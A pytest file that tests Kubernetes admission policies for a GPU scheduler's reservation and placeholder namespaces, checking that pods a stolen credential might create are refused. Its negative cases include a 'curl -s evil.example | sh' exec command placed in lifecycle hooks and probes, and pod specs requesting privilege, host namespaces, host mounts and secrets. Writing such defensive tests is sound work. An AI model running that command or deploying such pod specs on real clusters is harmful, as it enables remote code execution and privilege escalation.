"""What a stolen credential of a reservation or placeholder keeper (the extender's group, the node-state group, the
second scheduler's ServiceAccount) can run: the generated admission policy admits in the reservation
namespace only pods shaped as ``manifests.reservation.reservation_pod`` makes them, evaluated here by a
real CEL evaluator as the API server evaluates it. ``tests/e2e/test_reserved_shares.py`` sends a few of
the same pods through a real 1.33 API server."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from manifests.reservation import NAMESPACE, keeper_access, reservation_pod
from tests.manifests.test_admission_cel import evaluate

IMAGE = "registry.example/python:3.12-slim"
SCHEDULER = "system:serviceaccount:kube-system:gpu-scheduler"


def refusals(pod: dict[str, Any], namespace: str = NAMESPACE) -> list[str]:
    """The messages of the shape policy's failed validations for a CREATE of ``pod`` (empty: admitted)."""
    (policy,) = [d for d in keeper_access(SCHEDULER, image=IMAGE) if d["kind"] == "ValidatingAdmissionPolicy"]
    spec = policy["spec"]
    activation = {
        "request": {"operation": "CREATE", "namespace": namespace, "userInfo": {"username": SCHEDULER}},
        "object": pod,
    }
    if not all(evaluate(c["expression"], activation) for c in spec["matchConditions"]):
        return []
    return [v["message"] for v in spec["validations"] if not evaluate(v["expression"], activation)]


def admitted_shape() -> dict[str, Any]:
    """The reservation pod as the API server's admission chain leaves it: the ServiceAccount admission
    plugin adds the token's projected volume (and its mount) before validation."""
    pod = reservation_pod("ip-10-0-1-7.ec2.internal", 3, image=IMAGE)
    pod["spec"]["volumes"].append({"name": "kube-api-access-x1", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token", "expirationSeconds": 3607}},
        {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
        {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"fieldPath": "metadata.namespace"}}]}},
    ]}})  # fmt: skip
    return pod


def test_the_reservation_pod_the_product_makes_is_admitted() -> None:
    assert refusals(admitted_shape()) == []
    assert refusals(reservation_pod("n", 0, image=IMAGE)) == []


def _container(pod: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = pod["spec"]["containers"][0]
    return container


def _renamed(pod: dict[str, Any], name: str) -> dict[str, Any]:
    """A copy of the pod's container under another name (the API server refuses two of one name first)."""
    return {**copy.deepcopy(_container(pod)), "name": name}


def _volume(pod: dict[str, Any], source: dict[str, Any]) -> None:
    pod["spec"]["volumes"].append({"name": "extra", **source})


EXEC = {"exec": {"command": ["sh", "-c", "curl -s evil.example | sh"]}}
CODE_AND_PRIVILEGE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "a postStart exec hook": (lambda p: _container(p).update(lifecycle={"postStart": EXEC}), "no lifecycle hooks"),
    "a preStop hook": (lambda p: _container(p).update(lifecycle={"preStop": EXEC}), "no lifecycle hooks"),
    "an exec liveness probe": (lambda p: _container(p).update(livenessProbe=EXEC), "probes"),
    "an exec startup probe": (lambda p: _container(p).update(startupProbe=EXEC), "probes"),
    "an exec readiness probe": (lambda p: _container(p).update(readinessProbe=EXEC), "probes"),
    "an HTTP probe": (
        lambda p: _container(p).update(livenessProbe={"httpGet": {"path": "/", "port": 8080}}),
        "probes",
    ),
    "a root container": (lambda p: _container(p)["securityContext"].update(runAsUser=0), "restricted container"),
    "runAsNonRoot false": (
        lambda p: _container(p)["securityContext"].update(runAsNonRoot=False),
        "restricted container",
    ),
    "NET_RAW added": (
        lambda p: _container(p)["securityContext"]["capabilities"].update(add=["NET_RAW"]),
        "restricted container",
    ),
    "SYS_PTRACE added": (
        lambda p: _container(p)["securityContext"]["capabilities"].update(add=["SYS_PTRACE"]),
        "restricted container",
    ),
    "capabilities kept": (
        lambda p: _container(p)["securityContext"]["capabilities"].update(drop=["NET_RAW"]),
        "restricted container",
    ),
    "a writable root": (
        lambda p: _container(p)["securityContext"].update(readOnlyRootFilesystem=False),
        "restricted container",
    ),
    "no seccomp": (
        lambda p: _container(p)["securityContext"].update(seccompProfile={"type": "Unconfined"}),
        "restricted container",
    ),
    "an unmasked /proc": (  # which the API server allows only in a user namespace
        lambda p: (_container(p)["securityContext"].update(procMount="Unmasked"), p["spec"].update(hostUsers=False)),
        "restricted",
    ),
    "an SELinux type": (
        lambda p: _container(p)["securityContext"].update(seLinuxOptions={"type": "spc_t"}),
        "restricted container",
    ),
    "a root pod": (lambda p: p["spec"]["securityContext"].update(runAsUser=0), "restricted pod"),
    "no pod securityContext": (lambda p: p["spec"].pop("securityContext"), "restricted pod"),
    "sysctls": (
        lambda p: p["spec"]["securityContext"].update(sysctls=[{"name": "kernel.shm_rmid_forced", "value": "0"}]),
        "restricted pod",
    ),
    "a root supplemental group": (
        lambda p: p["spec"]["securityContext"].update(supplementalGroups=[0]),
        "restricted pod",
    ),
    "a host port": (lambda p: _container(p).update(ports=[{"containerPort": 22, "hostPort": 22}]), "ports"),
    "a shared process namespace": (lambda p: p["spec"].update(shareProcessNamespace=True), "no host namespaces"),
    "the host's IPC": (lambda p: p["spec"].update(hostIPC=True), "no host namespaces"),
    "a runtime class": (lambda p: p["spec"].update(runtimeClassName="nvidia-privileged"), "no runtime class"),
    "a DRA claim": (
        lambda p: p["spec"].update(resourceClaims=[{"name": "gpus", "resourceClaimName": "all-gpus"}]),
        "resource claims",
    ),
}
"""What a stolen keeper credential would add to run code, or more privilege, next to a GPU (issue "Safe to
deploy, third pass"): refused in both product namespaces."""

HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "another image": (lambda p: _container(p).update(image="example.com/miner:1"), "the image"),
    "another command": (lambda p: _container(p).update(command=["sh", "-c", "id"]), "program as command"),
    "arguments to it": (lambda p: _container(p).update(args=["--discover"]), "no args"),
    "a second container": (lambda p: p["spec"]["containers"].append(_renamed(p, "second")), "one container"),
    "an init container": (lambda p: p["spec"].update(initContainers=[_renamed(p, "init")]), "no other"),
    "a secret in its env": (
        lambda p: _container(p)["env"].append(
            {"name": "S", "valueFrom": {"secretKeyRef": {"name": "aws", "key": "key"}}}
        ),
        "env values or fieldRefs only",
    ),
    "envFrom": (lambda p: _container(p).update(envFrom=[{"secretRef": {"name": "aws"}}]), "no envFrom"),
    "privileged": (
        lambda p: _container(p)["securityContext"].update(privileged=True, allowPrivilegeEscalation=True),
        "no privilege",
    ),
    "privilege escalation": (
        lambda p: _container(p)["securityContext"].update(allowPrivilegeEscalation=True),
        "no privilege",
    ),
    "the host's PID namespace": (lambda p: p["spec"].update(hostPID=True), "no host namespaces"),
    "the host's network": (lambda p: p["spec"].update(hostNetwork=True), "no host namespaces"),
    "a hostPath volume": (
        lambda p: p["spec"]["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
        "only volumes",
    ),
    "a secret volume": (
        lambda p: p["spec"]["volumes"].append({"name": "s", "secret": {"secretName": "x"}}),
        "only volumes",
    ),
    "another ConfigMap projected": (
        lambda p: p["spec"]["volumes"].append({"name": "c", "projected": {"sources": [{"configMap": {"name": "x"}}]}}),
        "only volumes",
    ),
    "another ServiceAccount": (lambda p: p["spec"].update(serviceAccountName="default"), "the ServiceAccount"),
    "no nodeName": (lambda p: p["spec"].pop("nodeName"), "a nodeName"),
    "two GPUs": (
        lambda p: [_container(p)["resources"][side].update({"nvidia.com/gpu": "2"}) for side in ("requests", "limits")],
        "one nvidia.com/gpu",
    ),
    "every GPU in its env": (
        lambda p: _container(p)["env"].append({"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}),
        "no env but",
    ),
    "another priority": (lambda p: p["spec"].update(priorityClassName="system-node-critical"), "priority"),
    "a GPU named at creation": (
        lambda p: p["metadata"]["annotations"].update({"gpu-scheduler.io/reserved-gpu": "all"}),
        "no gpu-scheduler.io/reserved-gpu yet",
    ),
    **{name: (change, refusal) for name, (change, refusal) in CODE_AND_PRIVILEGE.items()},
}


@pytest.mark.parametrize("change", sorted(HOSTILE))
def test_any_other_pod_in_the_reservation_namespace_is_refused(change: str) -> None:
    alter, refusal = HOSTILE[change]
    pod = admitted_shape()
    alter(pod)
    found = refusals(pod)
    assert found and any(refusal in message for message in found), found


def test_pods_elsewhere_are_not_the_policys_to_judge() -> None:
    pod = admitted_shape()
    _container(pod).update(image="example.com/anything:1")
    assert refusals(pod, namespace="team-a") == []


def placeholder_refusals(pod: dict[str, Any]) -> list[str]:
    """The same for the placeholder namespace's policy (``manifests/placeholder.py``)."""
    from manifests.placeholder import NAMESPACE as PLACEHOLDERS
    from manifests.placeholder import placeholder_manifests

    (policy,) = [d for d in placeholder_manifests(IMAGE, SCHEDULER) if d["kind"] == "ValidatingAdmissionPolicy"]
    activation = {"request": {"operation": "CREATE", "namespace": PLACEHOLDERS}, "object": pod}
    return [v["message"] for v in policy["spec"]["validations"] if not evaluate(v["expression"], activation)]


PLACEHOLDER_HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "another image": (lambda p: _container(p).update(image="example.com/miner:1"), "asleep"),
    "a secret volume": (
        lambda p: p["spec"].update(volumes=[{"name": "s", "secret": {"secretName": "x"}}]),
        "no volumes",
    ),
    "env": (lambda p: _container(p).update(env=[{"name": "A", "value": "b"}]), "no args, env or mounts"),
    "bound at creation": (lambda p: p["spec"].update(nodeName="n"), "no nodeName"),
    "another scheduler": (lambda p: p["spec"].update(schedulerName="default-scheduler"), "profile"),
    "a higher priority": (lambda p: p["spec"].update(priorityClassName="system-node-critical"), "priority"),
    "privileged": (
        lambda p: _container(p)["securityContext"].update(privileged=True, allowPrivilegeEscalation=True),
        "no privilege",
    ),
    "a ServiceAccount token": (lambda p: p["spec"].update(automountServiceAccountToken=True), "no ServiceAccount"),
    **CODE_AND_PRIVILEGE,
}


@pytest.mark.parametrize("change", sorted(PLACEHOLDER_HOSTILE))
def test_the_placeholder_namespace_admits_placeholders_only(change: str) -> None:
    from manifests.placeholder import placeholder_pod

    requirements = {"annotations": {"gpu.nvidia.com/model": "H100"}, "nodeSelector": {"pool": "gpu"}}
    assert placeholder_refusals(placeholder_pod("0a1b2c3d4e", 0, requirements, image=IMAGE)) == []
    pod = placeholder_pod("0a1b2c3d4e", 0, requirements, image=IMAGE)
    alter, refusal = PLACEHOLDER_HOSTILE[change]
    alter(pod)
    found = placeholder_refusals(pod)
    assert found and any(refusal in message for message in found), found
